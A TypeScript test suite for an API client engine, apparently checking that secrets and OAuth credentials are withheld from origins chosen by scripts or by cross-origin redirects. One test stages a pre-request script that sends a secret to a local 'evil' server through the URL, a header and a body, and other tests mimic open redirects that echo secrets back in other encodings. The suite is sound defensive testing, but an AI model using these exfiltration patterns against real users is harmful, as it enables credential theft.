import { authSessionInMemory, type SignInHost, type WayOut, waysOut } from '@parley/engine'
import {
  defaultWebSocketPart,
  type GraphQlBody,
  type HttpRequest,
  inheritedRequestSettings,
  newAuth,
  type OAuth2Auth,
  ok,
  type ProxySettings,
  row,
  secretFieldsOf,
  withSecretText,
} from '@parley/model'
import { type RecordedRequest, type Sink, startSink, startWebSocketServer } from '@parley/testkit'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { directPath } from './connection/network-path.ts'
import { testProxy } from './network-settings/test-proxy.ts'
import {
  describeVariant,
  isInBody,
  jwtKeys,
  secretAuths,
  secretTextOf,
  tracesOf,
  writableForm,
} from './secret-auths.testkit.ts'
import {
  askingHost,
  canary,
  holds,
  namesOf,
  type ScriptedCase,
  schemaCase,
  sendCase,
  signInCase,
  variableScopes,
} from './secret-ways-out.testkit.ts'
import { startEngine } from './send-through-engine.testkit.ts'
import { webSocketFraming } from './websocket/web-socket-framing.ts'

const token = { statusCode: 200, headers: ['Content-Type', 'application/json'] }
const answers: Readonly<Record<string, string>> = {
  '/token': '{"access_token":"a-token","token_type":"bearer"}',
  '/device': '{"device_code":"d","user_code":"u","interval":1}',
}

let engine = startEngine()
/** The server that the user means, and the one to which a script or redirect leads. */
let good: Sink
let evil: Sink
let atGood: RecordedRequest[] = []
let atEvil: RecordedRequest[] = []
/** The redirect of the good server: a status, and the path on the evil server. */
let redirect: { readonly statusCode: number; readonly location: string } | null = null

beforeAll(async () => {
  const answer = (url: string) => ({ ...token, content: answers[url.replace(/[?;].*/, '')] ?? '{}' })
  evil = await startSink(request => {
    atEvil.push(request)
    return answer(request.url)
  })
  good = await startSink(request => {
    atGood.push(request)
    if (redirect === null) return answer(request.url)
    return { statusCode: redirect.statusCode, headers: ['Location', redirect.location], content: '' }
  })
})

afterEach(() => {
  redirect = null
  atGood = []
  atEvil = []
  engine.close()
  engine = startEngine()
})

afterAll(async () => {
  engine.close()
  await good.close()
  await evil.close()
})

/**
 * The parts of the address that a script chose: the user's values, and the script's values that override
 * them.
 */
const choices = {
  scheme: () => ({
    typed: { scheme: 'https', host: '127.0.0.1', port: String(evil.port), path: '' },
    scripted: { scheme: 'http' },
  }),
  host: () => ({
    typed: { scheme: 'http', host: 'localhost', port: String(evil.port), path: '' },
    scripted: { host: '127.0.0.1' },
  }),
  port: () => ({
    typed: { scheme: 'http', host: '127.0.0.1', port: String(good.port), path: '' },
    scripted: { port: String(evil.port) },
  }),
  all: () => ({
    typed: { scheme: 'http', host: 'localhost', port: String(good.port), path: '' },
    scripted: { scheme: 'http', host: '127.0.0.1', port: String(evil.port) },
  }),
}
const address = '{{scheme}}://{{host}}:{{port}}'

/** Where a secret is held: in a variable of a scope, or typed into the field. */
type Kind = 'literal' | (typeof variableScopes)[number]
const kinds: readonly Kind[] = [...variableScopes, 'literal']
const textOf = (kind: Kind, secret: string = canary) => (kind === 'literal' ? secret : '{{secret}}')
const scopeOf = (kind: Kind) => (kind === 'literal' ? null : kind)

/** A way out with a secret in it, which the values of a script lead elsewhere. */
interface Way {
  readonly label: string
  /** The names by which the user may be asked about the secret. */
  readonly names: readonly string[]
  readonly kind: Kind
  /** Whether the secret's own text arrives, and not only a value computed from it. */
  readonly isPlain: boolean
  run(one: ScriptedCase, host: ReturnType<typeof askingHost>): Promise<{ readonly ok: boolean }>
  readonly request: ScriptedCase['request']
  /** The value of the secret; the canary if absent. */
  readonly secret?: string
}

type Places = Readonly<Record<string, (text: string) => ScriptedCase['request']>>

const places: Places = {
  header: text => ({ headers: [row('X-Harmless', `v ${text}`)] }),
  'header name': text => ({ headers: [row(`X-${text}`, 'v')] }),
  query: text => ({ url: `${address}/{{path}}?q=${text}` }),
  path: text => ({ url: `${address}/{{path}}${text}` }),
  'path variable': text => ({ url: `${address}/{{path}}/:id`, pathParams: [row('id', text)] }),
  cookie: text => ({ cookies: [row('c', text)] }),
  'user in the URL': text => ({ url: `${address.replace('//', `//u:${text}@`)}/{{path}}` }),
  'raw body': text => ({ method: 'POST', body: { type: 'raw', language: 'json', text: `{"k":"${text}"}` } }),
  form: text => ({ method: 'POST', body: { type: 'urlEncoded', fields: [row('k', text)] } }),
}

/** Discards the tokens of earlier cases first. */
const send: Way['run'] = (one, { secretHosts }) =>
  sendCase(engine, one, { secretHosts, authSession: authSessionInMemory() })

/** The servers here have no schema; what matters is whether they were asked. */
const askForSchema: Way['run'] = async (one, { secretHosts }) => {
  const outcome = await schemaCase(engine, one, { secretHosts, authSession: authSessionInMemory() })
  return { ok: !outcome.ok && outcome.failure.code === 'NOT_GRAPHQL' }
}

function requestWays(): readonly Way[] {
  const variable = variableScopes.flatMap(kind =>
    Object.entries(places).map(
      ([place, requestOf]): Way => ({
        label: `${place}, ${kind} variable`,
        names: ['secret'],
        kind,
        isPlain: true,
        request: { url: `${address}/{{path}}`, ...requestOf('{{secret}}') },
        run: send,
      }),
    ),
  )
  const fields = Object.values(secretAuths)
    .flat()
    .flatMap(auth => secretFieldsOf(auth).map(({ field, label }) => ({ auth, field, label })))
  const inAuth = kinds.flatMap(kind =>
    fields.map(({ auth, field, label }): Way => {
      const secret = secretTextOf(auth, field)
      return {
        label: `${auth.type} ${describeVariant(auth)} ${label}, ${kind}`,
        names: kind === 'literal' ? [label] : ['secret'],
        kind,
        isPlain: false,
        request: {
          url: `${address}/{{path}}`,
          auth: withSecretText(auth, field, textOf(kind, secret)),
          ...(isInBody(auth) ? writableForm : {}),
        },
        run: send,
        secret,
      }
    }),
  )
  return [...variable, ...inAuth]
}

const oauth2: OAuth2Auth = {
  ...newAuth('oauth2'),
  clientId: 'c',
  clientAuthentication: 'body',
  authorizationUrl: 'http://127.0.0.1/authorize',
}
const clientSecretIs = (kind: Kind) => (kind === 'literal' ? ['Client secret'] : ['secret'])

/** The request itself goes to the user's server; its authorization does not. */
function tokenWays(
  label: string,
  authOf: (text: string) => OAuth2Auth,
  run: Way['run'],
  namesOfKind: (kind: Kind) => readonly string[] = clientSecretIs,
): readonly Way[] {
  return kinds.map(kind => ({
    label: `${label}, ${kind}`,
    names: namesOfKind(kind),
    kind,
    isPlain: true,
    request: { url: `http://127.0.0.1:${good.port}/me`, auth: authOf(textOf(kind)) },
    run,
  }))
}

const signIn =
  (host: Partial<SignInHost> = {}): Way['run'] =>
  (one, { secretHosts }) =>
    signInCase(engine, one, { secretHosts }, host)

/** The browser returns a code at once. */
const codeHost: Partial<SignInHost> = {
  async listen(_callback, state) {
    return ok({
      redirectUri: 'http://127.0.0.1/callback',
      redirected: async () =>
        ok(
          new Map([
            ['code', 'the-code'],
            ['state', state],
          ]),
        ),
      close: async () => {},
    })
  },
  openBrowser: async () => {},
}

const renewal: Way['run'] = async (one, host) => {
  const { secretHosts } = host
  const authSession = {
    ...engine.ports.authSession,
    tokens: {
      ...engine.ports.authSession.tokens,
      held: async () => ({ accessToken: 'old', idToken: '', refreshToken: 'refresh-token', expiresAt: 1 }),
    },
  }
  const outcome = await sendCase(engine, one, { secretHosts, authSession })
  const notices = outcome.ok ? outcome.value.exchange.notices : []
  return { ok: outcome.ok && notices.every(({ code }) => code !== 'TOKEN_NOT_RENEWED') }
}

/** Opens WebSockets without a user. */
const silentHost = {
  framing: webSocketFraming,
  onOpen: () => ({ onFrame: async () => {} }),
}

const subscription = (fields: Partial<GraphQlBody>, connectionParams = ''): Partial<HttpRequest> => ({
  method: 'POST',
  body: {
    type: 'graphql',
    query: 'subscription { a }',
    variables: '',
    subscription: { transport: 'graphql-transport-ws', url: '', connectionParams },
    ...fields,
  },
})

/** The requests whose secrets leave in messages over an open WebSocket. */
const laterMessages: Readonly<Record<string, Partial<HttpRequest>>> = {
  'a message of a WebSocket': {
    webSocket: {
      ...defaultWebSocketPart,
      messages: [{ title: '', selected: true, format: 'text', data: 'k={{secret}}' }],
    },
  },
  'the connection parameters of a subscription': subscription({}, '{"k":"{{secret}}"}'),
  'the query of a subscription': subscription({ query: 'subscription { a(k: "{{secret}}") }' }),
  'the variables of a subscription': subscription({ variables: '{"k":"{{secret}}"}' }),
  'the extensions of a subscription': subscription({ extensions: '{"k":"{{secret}}"}' }),
}

/** Every way out that the engine knows; a missing entry does not compile. */
const ways = {
  request: requestWays,
  tokenRequest: () => [
    ...tokenWays(
      'client credentials of a send',
      clientSecret => ({
        ...oauth2,
        grantType: 'clientCredentials',
        tokenUrl: `${address}/token`,
        clientSecret,
      }),
      send,
    ),
    ...tokenWays(
      'password of a send',
      password => ({
        ...oauth2,
        grantType: 'password',
        tokenUrl: `${address}/token`,
        username: 'u',
        password,
      }),
      send,
      kind => (kind === 'literal' ? ['Password'] : ['secret']),
    ),
    ...tokenWays(
      'Get New Access Token by client credentials',
      clientSecret => ({
        ...oauth2,
        grantType: 'clientCredentials',
        tokenUrl: `${address}/token`,
        clientSecret,
      }),
      signIn(),
    ),
    ...tokenWays(
      'Get New Access Token by code',
      clientSecret => ({ ...oauth2, tokenUrl: `${address}/token`, clientSecret }),
      signIn(codeHost),
    ),
  ],
  tokenRenewal: () =>
    tokenWays(
      'refresh token',
      clientSecret => ({
        ...oauth2,
        tokenUrl: `${good.url}/token`,
        refreshTokenUrl: `${address}/token`,
        clientSecret,
      }),
      renewal,
    ),
  deviceAuthorization: () =>
    tokenWays(
      'device code',
      clientSecret => ({
        ...oauth2,
        grantType: 'deviceCode',
        deviceAuthorizationUrl: `${address}/device`,
        tokenUrl: `${good.url}/token`,
        clientSecret,
      }),
      signIn(),
    ),
  // The content of the user's request is not sent, and neither is a secret in it.
  schema: () =>
    requestWays()
      .filter(({ request: { body, auth } }) => body === undefined && !(auth && isInBody(auth)))
      .map(way => ({ ...way, run: askForSchema })),
  signInPage: () =>
    tokenWays(
      'page of the browser',
      value => ({
        ...oauth2,
        authorizationUrl: `${address}/authorize`,
        tokenUrl: `${good.url}/token`,
        additionalParameters: [{ request: 'authorization', name: 'p', value, placement: 'query' }],
      }),
      signIn({
        ...codeHost,
        openBrowser: async url => void (await fetch(url)),
      }),
    ).filter(({ kind }) => kind !== 'literal'),
  // Its servers open no WebSocket; what matters is whether they were asked.
  webSocket: () =>
    requestWays()
      .filter(({ request: { body, auth } }) => body === undefined && !(auth && isInBody(auth)))
      .map(way => ({
        ...way,
        request: { ...way.request, webSocket: defaultWebSocketPart },
        run: (one, host) =>
          sendCase(engine, one, { ...host, authSession: authSessionInMemory(), webSockets: silentHost }),
      })),
  // `laterMessages` are tested below, as their server must open a WebSocket.
  webSocketMessage: () => [],
  // Tested in grpc/grpc-secrets.test.ts, whose servers speak HTTP/2.
  grpc: () => [],
  grpcMessage: () => [],
  reflection: () => [],
  scriptRequest: () => [],
  // Tested in ask-assistant.test.ts: its requests have no variables, and no script runs before them.
  assistant: () => [],
} satisfies Record<WayOut, () => readonly Way[]>

describe('a secret on its way to an origin that a script chose (SE8)', () => {
  const parts = Object.keys(choices) as (keyof typeof choices)[]
  test.each(waysOut.flatMap(way => parts.map(part => [way, part] as const)))(
    '%s, %s chosen: the user is asked, and after a refusal nothing arrives',
    async (way, part) => {
      for (const { label, names, kind, isPlain, request, run, secret: value = canary } of ways[way]()) {
        const one = { request, ...choices[part](), scope: scopeOf(kind), value }
        const refusing = askingHost(false)
        const refused = await run(one, refusing)
        expect(refused.ok, label).toBe(false)
        expect(refusing.asked.length, label).toBe(1)
        expect(refusing.asked[0], label).toMatchObject({ origin: evil.url, chosenBy: 'script' })
        expect(refusing.asked.flatMap(namesOf), label).toEqual(expect.arrayContaining([...names]))
        expect(atEvil, label).toEqual([])
        await run(one, askingHost(true))
        expect(atEvil.length, label).toBeGreaterThan(0)
        if (isPlain) expect(holds(atEvil, canary), label).toBe(true)
        else if (value !== canary)
          for (const trace of tracesOf(value)) expect(holds(atEvil, trace), label).toBe(false)
        atEvil = []
      }
    },
    120_000,
  )

  test.each(waysOut)('%s: the user is not asked if a script chose only the path', async way => {
    for (const { label, kind, request, run, secret: value = canary } of ways[way]()) {
      const typed = { scheme: 'http', host: '127.0.0.1', port: String(evil.port), path: '' }
      const host = askingHost(false)
      const scripted = { path: 'chosen' }
      const sent = await run({ request, typed, scripted, scope: scopeOf(kind), value }, host)
      expect(sent.ok, label).toBe(true)
      expect(host.asked, label).toEqual([])
    }
  })

  test.each(
    Object.entries(laterMessages).flatMap(([label, fields]) =>
      parts.map(part => [label, part, fields] as const),
    ),
  )('%s, %s chosen: the user is asked, and after a refusal it is not sent', async (_, part, fields) => {
    const received: string[] = []
    const server = await startWebSocketServer({
      onConnection: socket =>
        socket.on('message', data => {
          const text = data.toString()
          received.push(text)
          if (text.includes('connection_init')) socket.send('{"type":"connection_ack"}')
          else socket.close()
        }),
    })
    const at = (values: Readonly<Record<string, string>>) =>
      values.port === String(evil.port) ? { ...values, port: String(server.port) } : values
    const request = { url: `${address}/`, ...fields }
    const { typed, scripted } = choices[part]()
    const one = { request, typed: at(typed), scripted: at(scripted), scope: 'global' } as const
    for (const isAllowed of [false, true]) {
      const host = askingHost(isAllowed)
      const outcome = await sendCase(engine, one, { ...host, webSockets: silentHost })
      expect(host.asked).toMatchObject([{ origin: `http://127.0.0.1:${server.port}`, chosenBy: 'script' }])
      const code = outcome.ok ? '' : outcome.failure.failure.code
      expect(code).toBe(isAllowed ? '' : 'SECRET_HOST_NOT_ALLOWED')
      expect(received.filter(text => text.includes(canary))).toHaveLength(isAllowed ? 1 : 0)
      if (!isAllowed) expect(received).toEqual([])
    }
    await server.close()
  })

  test('private keys are among the secrets of a request', () => {
    const labels = ways.request().map(one => one.label)
    for (const kind of kinds) {
      for (const algorithm of Object.keys(jwtKeys))
        expect(labels).toContain(`jwt ${algorithm} header Private key, ${kind}`)
      for (const method of ['RSA-SHA1', 'RSA-SHA256', 'RSA-SHA512'])
        expect(labels).toContain(`oauth1 ${method} body Private key, ${kind}`)
    }
  })

  test('the user is not asked about a secret that scripts may read, nor without a secret', async () => {
    const host = askingHost(false)
    const request = { url: `${address}/`, headers: [row('X', '{{secret}}')] }
    await sendCase(engine, { request, ...choices.port(), scope: 'global', isReadable: true }, host)
    await sendCase(engine, { request: { url: `${address}/` }, ...choices.port(), scope: null }, host)
    expect(host.asked).toEqual([])
    expect(atEvil).toHaveLength(2)
  })

  test('the user is asked about a stored token, and about a refresh token alone', async () => {
    const auth: OAuth2Auth = { ...oauth2, grantType: 'clientCredentials', tokenUrl: `${good.url}/token` }
    const host = askingHost(false)
    await sendCase(engine, { request: { url: address, auth }, ...choices.port(), scope: null }, host)
    expect(host.asked.map(namesOf)).toEqual([['Access token']])
    const renewing = askingHost(false)
    const refreshTokenUrl = `${address}/token`
    await renewal(
      { request: { url: good.url, auth: { ...auth, refreshTokenUrl } }, ...choices.port(), scope: null },
      renewing,
    )
    expect(renewing.asked.map(namesOf)).toEqual([['Refresh token']])
    expect(atEvil).toEqual([])
  })

  test('a request of a script that names it is refused', async () => {
    const host = askingHost(true)
    const failures: string[] = []
    const { scripts } = engine.ports
    await sendCase(
      engine,
      { request: { url: good.url }, typed: {}, scripted: {}, scope: 'global' },
      {
        ...host,
        scripts: {
          ...scripts,
          async runPreRequest(run) {
            for (const request of [
              { method: 'GET', url: `${evil.url}/{{secret}}`, headers: [], content: null },
              { method: 'GET', url: evil.url, headers: [row('X', '{{secret}}')], content: null },
              {
                method: 'POST',
                url: evil.url,
                headers: [],
                content: { text: '{{secret}}', mediaType: null },
              },
            ]) {
              const sent = await run.sendRequest(request, run.resolved.scopes, run.signal)
              if (!sent.ok) failures.push(sent.failure.code)
            }
            return scripts.runPreRequest(run)
          },
        },
      },
    )
    expect(failures).toEqual(['VARIABLE_WITHHELD', 'VARIABLE_WITHHELD', 'VARIABLE_WITHHELD'])
    expect(atEvil).toEqual([])
  })

  test('through a proxy as well: Parley does not even connect to it', async () => {
    const proxy = await startSink()
    const server = { type: 'http', host: '127.0.0.1', port: proxy.port, username: '', password: '' } as const
    engine.close()
    engine = startEngine({ choosePath: async () => ({ ...directPath, proxy: server }) })
    const request = { url: `${address}/`, headers: [row('X', '{{secret}}')] }
    const host = askingHost(false)
    await sendCase(engine, { request, ...choices.port(), scope: 'global' }, host)
    expect(host.asked).toHaveLength(1)
    expect(proxy.requests).toEqual([])
    await proxy.close()
  })

  test('Test Connection fills in no variable, so no script chooses its target', async () => {
    const settings: ProxySettings = {
      enabled: true,
      type: 'http',
      host: '{{host}}',
      port: evil.port,
      username: '{{secret}}',
      bypass: '',
    }
    const ports = { systemProxy: async () => null, trust: async () => directPath.tls }
    const tested = await testProxy(settings, '{{secret}}', ports, new AbortController().signal)
    expect(tested.ok).toBe(false)
    expect(atEvil).toEqual([])
  })
})

describe('a secret and a redirect to another origin', () => {
  const statuses = [301, 302, 303, 307, 308] as const
  /** A secret in one of these is removed with its row. */
  const droppable = ['header', 'header name', 'query', 'cookie', 'user in the URL']
  const inBody = ['raw body', 'form']

  const secrets = [
    { label: 'withheld', isReadable: false, value: canary },
    { label: 'readable', isReadable: true, value: canary },
    { label: 'short', isReadable: false, value: '7391' },
  ]

  test.each(statuses.flatMap(status => secrets.map(secret => [status, secret.label, secret] as const)))(
    '%i, %s: rows are dropped, and the user is asked about a body',
    async (statusCode, _, { isReadable, value }) => {
      for (const place of [...droppable, ...inBody]) {
        const requestOf = places[place]
        if (requestOf === undefined) throw new Error(place)
        redirect = { statusCode, location: `${evil.url}/there` }
        const request = { url: `${good.url}/`, method: 'POST', ...requestOf('{{secret}}') }
        const url = (request.url ?? '')
          .replace(address, good.url)
          .replace(address.replace('//', '//u:{{secret}}@'), good.url.replace('//', '//u:{{secret}}@'))
        const one = {
          request: { ...request, url },
          typed: { path: '' },
          scripted: { path: 'open-redirect' },
          scope: 'global',
          isReadable,
          value,
        } as const
        const keepsBody = statusCode >= 307 && inBody.includes(place)
        const host = askingHost(false)
        const outcome = await sendCase(engine, one, host)
        expect(host.asked.length, place).toBe(keepsBody ? 1 : 0)
        expect(outcome.ok, place).toBe(!keepsBody)
        if (keepsBody) {
          expect(host.asked[0]).toMatchObject({ origin: evil.url, chosenBy: 'redirect' })
          expect(outcome).toMatchObject({
            failure: { failure: { code: 'SECRET_REDIRECT_NOT_ALLOWED', subject: 'secret' } },
          })
        }
        expect(atEvil.length, place).toBe(keepsBody ? 0 : 1)
        expect(holds(atEvil, value), place).toBe(false)
        atEvil = []
        if (!keepsBody) continue
        await sendCase(engine, one, askingHost(true))
        expect(holds(atEvil, value), place).toBe(true)
        atEvil = []
      }
    },
  )

  test.each(statuses)('%i: the credentials of every scheme are dropped', async statusCode => {
    for (const { label, kind, request, run, secret: value = canary } of requestWays().filter(
      way => !way.isPlain,
    )) {
      redirect = { statusCode, location: `${evil.url}/there` }
      const typed = { scheme: 'http', host: '127.0.0.1', port: String(good.port), path: '' }
      const scripted = { path: 'open' }
      const host = askingHost(false)
      await run({ request, typed, scripted, scope: scopeOf(kind), value }, host)
      // Nothing can be removed from a body, so the user is asked about a credential that a scheme wrote into
      // it.
      const isAsked = statusCode >= 307 && request.auth !== undefined && isInBody(request.auth)
      expect(host.asked.length, label).toBe(isAsked ? 1 : 0)
      expect(atEvil.length, label).toBe(isAsked ? 0 : 1)
      expect(holds(atEvil, 'oauth_signature'), label).toBe(false)
      for (const trace of tracesOf(value)) expect(holds(atEvil, trace), label).toBe(false)
      atEvil = []
    }
  })

  test('the user is asked about a path that carries it, because a script may have put the host before it', async () => {
    redirect = { statusCode: 302, location: `${evil.url}/${encodeURIComponent(canary)}?a=1` }
    const request = { url: `${good.url}/r?to={{evil}}{{secret}}` }
    const one = { request, typed: {}, scripted: { evil: evil.url }, scope: 'global' } as const
    const host = askingHost(false)
    expect((await sendCase(engine, one, host)).ok).toBe(false)
    expect(host.asked.map(namesOf)).toEqual([['secret']])
    expect(atEvil).toEqual([])
  })

  test('a query that the server repeats loses that parameter', async () => {
    redirect = { statusCode: 302, location: `${evil.url}/a?x=1&s=${encodeURIComponent(canary)}&y=2` }
    const request = { url: `${good.url}/?s={{secret}}` }
    await sendCase(engine, { request, typed: {}, scripted: {}, scope: 'global' }, askingHost(false))
    expect(atEvil.map(one => one.url)).toEqual(['/a?x=1&y=2'])
  })

  test('a query that the server repeats in another encoding loses that parameter as well', async () => {
    for (const written of [
      encodeURIComponent(encodeURIComponent(canary)),
      encodeURIComponent(`${good.url}/?s=${encodeURIComponent(canary)}`),
      encodeURIComponent(JSON.stringify({ s: canary }).replace('+', '\\u002B')),
    ]) {
      redirect = { statusCode: 302, location: `${evil.url}/a?x=1&s=${written}&y=2` }
      const request = { url: `${good.url}/?s={{secret}}` }
      await sendCase(engine, { request, typed: {}, scripted: {}, scope: 'global' }, askingHost(false))
      expect(atEvil.map(one => one.url)).toEqual(['/a?x=1&y=2'])
      atEvil = []
    }
  })

  test('to the same origin everything is kept, and back to the first one the user is not asked', async () => {
    redirect = { statusCode: 307, location: '/again' }
    const request = { url: `${good.url}/`, method: 'POST', headers: [row('X-Harmless', '{{secret}}')] }
    const host = askingHost(false)
    await sendCase(
      engine,
      {
        request: { ...request, settings: { ...inheritedRequestSettings, maxRedirects: 1 } },
        typed: {},
        scripted: {},
        scope: 'global',
      },
      host,
    )
    expect(host.asked).toEqual([])
    expect(atGood.map(one => one.headers.some(({ name }) => name === 'X-Harmless'))).toEqual([true, true])
  })
})
